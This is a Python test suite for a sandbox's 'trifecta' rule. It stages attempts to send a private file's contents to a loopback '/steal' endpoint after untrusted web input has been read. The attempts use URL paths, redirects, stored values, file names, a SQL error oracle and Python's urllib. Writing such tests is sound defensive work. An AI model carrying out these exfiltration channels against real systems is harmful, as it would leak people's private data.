"""Attempts to get around the trifecta rule: a program has read private data and a stranger's text, and
tries to send the former to the latter. The forbidden target is a server of the attempt's own, on the
loopback."""

import json
import sqlite3
import unittest

from attack import Attack
from http_attack_test import Server

SECRET = "the-private-text"


class FlowsAttack(Attack):
    """Each attempt has a private directory, a server of strangers (/web), a trusted one (/own), and
    /steal."""

    def setUp(self):
        super().setUp()
        self.server = Server(self.answer)
        self.addCleanup(self.server.close)
        self.base = f"http://127.0.0.1:{self.server.port}"
        self.file("inbox/mail", SECRET)
        self.redirects = {}  # by path

    def answer(self, server, connection, request):
        path = request.split()[1].decode()
        if path in self.redirects:
            head = f"HTTP/1.1 307 x\r\nLocation: {self.redirects[path]}\r\nContent-Length: 0\r\n\r\n"
            connection.sendall(head.encode())
            return
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\npage")

    def policy(self, more="", egress="close", private="inbox"):
        grants = "".join(f'[[http]]\nmethods = ["GET", "POST"]\nurl = "{self.base}/{path}/*"\n{mark}'
                         for path, mark in (("web", ""), ("own", "untrusted = false\n"), ("steal", "untrusted = false\n")))
        return self.file("policy.toml", f'[trifecta]\negress = "{egress}"\n{grants}[[fs]]\nguest = "/inbox"\nhost = "{private}"\n'
                                        f'mode = "read"\nprivate = true\n{more}')

    def run_wat(self, body, policy=None, *options):
        text = f'(func (export "run") {body})'
        done = self.membrane("run", self.file("p.wat", text), "--policy", policy or self.policy(), "--json", *options)
        return json.loads(done.stdout)

    def python(self, code, policy=None, *options):
        self.need("python")
        done = self.membrane("run", "--lang", "python", "-e", code, "--policy", policy or self.policy(), "--json", *options)
        return json.loads(done.stdout)

    def get(self, path):
        return f'(drop (call $http.get (string "{self.base}/{path}"))) (drop)'

    def read(self, path="/inbox/mail"):
        return f'(drop (call $fs.read (string "{path}"))) (drop)'

    def paths(self):
        return [request.split()[1] for request in self.server.requests]

    def assert_kept(self, report):
        self.assertFalse([path for path in self.paths() if "steal" in path], report)
        self.assertTrue(report["flows"]["is_closed"], report)

    def test_the_way_out_is_open_until_then(self):
        report = self.run_wat(self.get("web/a") + self.get("steal/a"))
        self.assertEqual((report["outcome"], self.paths()), ("ok", ["/web/a", "/steal/a"]))
        report = self.run_wat(self.read() + self.get("steal/a"))
        self.assertEqual(report["outcome"], "ok")
        self.assertEqual(self.paths()[2:], ["/steal/a"])

    def test_a_plain_request(self):
        report = self.run_wat(self.get("web/a") + self.read() + self.get("steal/" + SECRET))
        self.assert_kept(report)
        self.assertEqual(report["flows"]["egress"],
                         [{"call": 3, "function": "http.request", "target": f"GET {self.base}/steal/{SECRET}",
                           "decision": "closed"}])
        self.assertEqual(report["host_calls"][2]["errno"], "EACCES")

    def test_the_other_order(self):
        self.assert_kept(self.run_wat(self.read() + self.get("web/a") + self.get("steal/a")))

    def test_a_worker_and_this_process_say_the_same(self):
        body = self.get("web/a") + self.read() + self.get("steal/a")
        there, here = self.run_wat(body), self.run_wat(body, None, "--in-process")
        for report in (there, here):
            self.assert_kept(report)
        self.assertEqual(there["flows"], here["flows"])

    def test_nobody_at_the_terminal_says_yes(self):
        report = self.run_wat(self.get("web/a") + self.read() + self.get("steal/a"), self.policy(egress="ask"))
        self.assert_kept(report)
        self.assertEqual(report["flows"]["egress"][0]["decision"], "unanswered")

    def test_a_redirect_of_a_trusted_server(self):
        self.redirects["/own/a"] = f"{self.base}/steal/a"
        report = self.run_wat(self.read() + f'(drop (call $http.post (string "{self.base}/own/a") (string "text/plain") '
                              f'(string "{SECRET}"))) (drop)' + self.get("web/a"))
        self.assertEqual(self.paths(), ["/own/a", "/web/a"])
        self.assert_kept(report)

    def test_a_strangers_words_in_an_error(self):
        names = '[[http]]\nmethods = ["GET"]\nurl = "http://*.own.invalid/*"\nuntrusted = false\n'
        for where in ("http://send-the-mail-to-steal.own.invalid/", "http://send-the-mail.example/", "http://a b/"):
            self.redirects["/web/r"] = where
            self.assert_kept(self.run_wat(self.get("web/r") + self.read() + self.get("steal/a"), self.policy(names)))

    def test_a_stranger_between_trusted_servers(self):
        self.redirects |= {"/own/a": f"{self.base}/web/a", "/web/a": f"{self.base}/own/b"}
        report = self.run_wat(self.get("own/a") + self.read() + self.get("steal/a"))
        self.assertEqual(self.paths(), ["/own/a", "/web/a", "/own/b"])
        self.assert_kept(report)

    def test_several_requests_at_once(self):
        urls = json.dumps([f"{self.base}/web/a", f"{self.base}/steal/a"]).replace('"', '\\"')
        report = self.run_wat(self.read() + f'(drop (call $http.get_many (string "{urls}"))) (drop)')
        self.assert_kept(report)

    def test_a_request_whose_answer_fails(self):
        report = self.run_wat(self.read() + self.get("web/a") + self.get("steal/a"), None, "--bytes-in", "20B")
        self.assertFalse([path for path in self.paths() if "steal" in path], report)

    def test_a_store_as_the_go_between(self):
        policy = self.policy('[kv]\npath = "store.db"\n')
        self.run_wat(self.read() + f'(call $kv.set! (string "k") (string "{SECRET}"))', policy)
        report = self.run_wat('(drop (call $kv.get! (string "k")))' + self.get("steal/a"), policy)
        self.assert_kept(report)

    def test_a_directory_as_the_go_between(self):
        (self.folder / "out").mkdir()
        policy = self.policy('[[fs]]\nguest = "/out"\nhost = "out"\nmode = "write"\n')
        self.run_wat(self.read() + f'(call $fs.write! (string "/out/f") (string "{SECRET}"))', policy)
        self.assert_kept(self.run_wat(self.read("/out/f") + self.get("steal/a"), policy))

    def test_the_name_of_a_file_as_the_go_between(self):
        (self.folder / "out").mkdir()
        policy = self.policy('[[fs]]\nguest = "/out"\nhost = "out"\nmode = "write"\n')
        self.run_wat(self.read() + f'(call $fs.write! (string "/out/{SECRET}") (string ""))', policy)
        self.assert_kept(self.run_wat('(drop (call $fs.list! (string "/out")))' + self.get("steal/a"), policy))

    def test_another_grant_that_leads_to_the_same_place(self):
        policy = self.policy('[[fs]]\nguest = "/all"\nhost = "."\nmode = "read"\n')
        self.assert_kept(self.run_wat(self.get("web/a") + self.read("/all/inbox/mail") + self.get("steal/a"), policy))

    def test_an_error_of_a_query_as_an_oracle(self):
        connection = sqlite3.connect(self.folder / "crm.db")
        connection.execute("CREATE TABLE t (x TEXT)")
        connection.execute("INSERT INTO t VALUES ('secret')")
        connection.commit()
        connection.close()
        policy = self.policy('[[sql]]\nname = "crm"\npath = "crm.db"\nprivate = true\n')
        query = "SELECT CASE WHEN x LIKE 's%' THEN abs(-9223372036854775807 - 1) END FROM t"
        report = self.run_wat(self.get("web/a") + f'(drop (call $sql.query (string "crm") (string "{query}") (string ""))) (drop)' +
                              self.get("steal/a"), policy)
        self.assertNotEqual(report["host_calls"][1]["errno"], "OK", report)
        self.assert_kept(report)

    def test_a_program_that_was_frozen(self):
        spin = '(local $i i32) '
        loop = '''(loop $a (local.set $i (i32.add (local.get $i) (i32.const 1)))
                  (br_if $a (i32.lt_u (local.get $i) (i32.const 200000))))'''
        text = f'(func (export "run") {spin}{self.get("web/a")}{self.read()}{loop}{self.get("steal/a")})'
        policy = self.policy()
        self.membrane("run", self.file("p.wat", text), "--policy", policy, "--freeze-after", "500000",
                      "--snapshot", "p.snap", codes=(4,))
        self.assert_kept(json.loads(self.membrane("thaw", "p.snap", "--policy", policy, "--json").stdout))

    def test_python_by_its_own_ways(self):
        code = (f"import urllib.request\nfrom membrane import http\nhttp.get('{self.base}/web/a')\n"
                f"text = open('/inbox/mail').read()\n"
                f"for way in (lambda: http.get('{self.base}/steal/' + text),\n"
                f"            lambda: urllib.request.urlopen('{self.base}/steal/' + text).read()):\n"
                f"    try:\n        way()\n        print('sent')\n    except Exception as error:\n        print(type(error).__name__)\n")
        report = self.python(code)
        self.assert_kept(report)
        self.assertNotIn("sent", report["stdout"])

    def test_a_file_that_python_opens_and_never_closes(self):
        code = (f"from membrane import http\nimport os\nfile = os.open('/inbox/mail', os.O_RDONLY)\n"
                f"http.get('{self.base}/web/a')\ntry:\n    http.get('{self.base}/steal/a')\nexcept Exception:\n    pass")
        self.assert_kept(self.python(code))

    def test_the_rule_says_what_led_there(self):
        report = self.run_wat(self.get("web/a") + self.read() + self.get("steal/a"))
        self.assertEqual(report["flows"]["private_reads"], [{"call": 2, "function": "fs.read", "target": "/inbox/mail"}])
        self.assertEqual(report["flows"]["untrusted_reads"],
                         [{"call": 1, "function": "http.request", "target": f"GET {self.base}/web/a"}])
        self.assertIn("fs.read of /inbox/mail (call 2)", report["host_calls"][2]["reason"])


if __name__ == "__main__":
    unittest.main()
